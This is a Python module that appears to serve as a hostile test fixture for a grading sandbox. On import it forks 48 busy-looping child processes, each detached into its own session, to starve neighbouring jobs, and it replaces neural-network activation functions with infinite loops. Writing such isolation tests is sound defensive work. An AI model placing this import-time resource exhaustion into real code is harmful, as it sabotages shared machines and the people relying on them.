"""Attack: at import, fork 48 busy-looping children, each in a session of its own, to
starve whoever is graded beside it; every function then spins too.

Bounded (each child stops after LIFETIME_S), so that a wall that fails cannot hold
the machine for long.
"""

import ctypes
import os
import time

TOKEN = "__TOKEN__"  # the name these processes go by, for the test to find
PR_SET_NAME = 15
CHILDREN = 48
LIFETIME_S = 300

ctypes.CDLL(None).prctl(PR_SET_NAME, TOKEN.encode(), 0, 0, 0)
for _ in range(CHILDREN):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        os.setsid()
        end = time.monotonic() + LIFETIME_S
        while time.monotonic() < end:
            pass
        os._exit(0)


def _spin(*args, **kwargs):
    while True:
        pass


step = relu = sigmoid = tanh = _spin
relu_backward = sigmoid_backward = tanh_backward = _spin
